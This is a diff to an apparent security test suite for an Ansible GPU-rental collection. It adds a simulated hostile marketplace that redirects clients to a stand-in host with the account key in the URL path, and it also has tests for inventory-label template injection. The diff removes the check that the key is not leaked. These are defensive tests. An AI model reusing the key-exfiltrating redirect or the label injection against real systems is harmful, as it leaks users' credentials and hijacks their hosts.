@@ -14,7 +14,7 @@ from contextlib import suppress
 from typing import Any
 
 from tests.attacks.registry import attack, each
-from tests.attacks.stage import NAME, PUBLIC_KEY, SCOPE, SECRETS, Stage, key_pair, on_market, plays
+from tests.attacks.stage import NAME, PUBLIC_KEY, SCOPE, Stage, key_pair, on_market, plays
 from tests.simulator.app import Simulator
 from tests.simulator.web import Reply, Request, json_reply
 
@@ -171,7 +171,7 @@ def redirects(stage: Stage, where: tuple[str, int]) -> None:
     played = stage.play(
         on_market(stage, simulator, {"inferops.gpu.rental": RENT}), simulator=simulator
     )
-    stage.tried(met(simulator) >= 1 and played.status != 0)
+    stage.tried(met(simulator) >= 1 and played.status != 0 and "redirect" in played.text)
 
 
 class Endless:
@@ -330,11 +330,26 @@ def market_says_the_key_back(stage: Stage) -> None:
         text = f"forbidden: {request.headers.get('authorization')} {request.path}"
         return Reply(403, text.encode(), {"Content-Type": "text/plain"})
 
+    said_back(stage, echo, "forbidden")
+
+
+@attack
+def market_says_the_key_back_in_a_redirect(stage: Stage) -> None:
+    """Where it wants the client to go has the key in the path."""
+
+    def echo(request: Request) -> Reply:
+        key = request.headers.get("authorization", "").rpartition(" ")[2]
+        return Reply(302, b"", {"Location": f"https://203.0.113.9/{key}"})
+
+    said_back(stage, echo, "redirect")
+
+
+def said_back(stage: Stage, echo: Any, told: str) -> None:
+    """Ask a marketplace that answers so."""
     url = stage.serve(echo)
     info = {"inferops.gpu.rental_info": {"api_url": url, "scope": SCOPE}}
     played = stage.play(plays(info, hosts="localhost"), "-vvvvv")
-    stage.tried("403" in played.text or "forbidden" in played.text)
-    stage.harmed(SECRETS["account key"] in played.text, "the key was shown")
+    stage.tried(told in played.text)
 
 
 @each(
@@ -358,15 +373,22 @@ def writes_a_label(stage: Stage, label: str) -> None:
         f"controller_dir: {stage.controller}\n"
     )
     which = "{{ 'a rental' if inferops_rental is defined else 'the controller' }}"
-    show = {"ansible.builtin.debug": {"msg": f"{{{{ groups }}}} this is {which}"}}
+    hosts = "hosts={{ groups.all | reject('eq', '" + NAME + "') | join('+') }}="
+    show = {"ansible.builtin.debug": {"msg": f"{hosts} this is {which}"}}
     enabled = {"ANSIBLE_INVENTORY_ENABLED": "inferops.gpu.rentals,ansible.builtin.yaml"}
     (play,) = plays(show, hosts="localhost")
-    played = stage.play(
-        [play], "-i", str(source), simulator=simulator, environment=enabled, hosts={NAME: {}}
-    )
-    stage.tried(met(simulator) >= 1)
-    stand_in = "this is the controller" not in played.text
-    stage.harmed(stand_in, "a rental stands in for the controller")
+    # Where a scope has no secret, nothing but its words speaks against a label.
+    for secret in ({}, {"INFEROPS_SCOPE_SECRET": ""}):
+        played = stage.play(
+            *([play], "-i", str(source)),
+            simulator=simulator,
+            environment={**enabled, **secret},
+            hosts={NAME: {}},
+        )
+        stand_in = "this is the controller" not in played.text
+        stage.harmed(stand_in, "a rental stands in for the controller")
+        stage.harmed("hosts==" not in played.text, "a label made a host of that name")
+    stage.tried(met(simulator) >= 2)
     stage.play("inferops.gpu.status", simulator=simulator, hosts={NAME: {}})
     torn = stage.play("inferops.gpu.teardown", simulator=simulator, hosts={NAME: {}})
     told = "nothing is rented" in torn.text.lower() and torn.status == 0
